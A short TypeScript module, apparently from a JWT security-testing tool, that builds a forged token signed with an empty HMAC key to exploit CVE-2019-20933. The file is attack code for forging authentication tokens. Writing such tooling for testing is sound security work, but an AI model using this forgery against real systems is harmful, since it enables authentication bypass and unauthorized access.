import { assembleHmacToken, chooseHmacAlg, succeed, type AttackParts } from './attack-parts';
import type { AttackResult } from './attack-result';

/**
 * Returns the token HMAC-signed with a zero-length key (CVE-2019-20933): `alg` is the header's HS*,
 * HS256 otherwise. Pure JS, because WebCrypto refuses empty HMAC keys.
 */
export function buildEmptyKeyAttack(parts: AttackParts): AttackResult {
  const token = assembleHmacToken({ ...parts.header, alg: chooseHmacAlg(parts.header) }, parts.payloadSegment, new Uint8Array(0));
  return succeed('empty-key', 'default', token, parts);
}
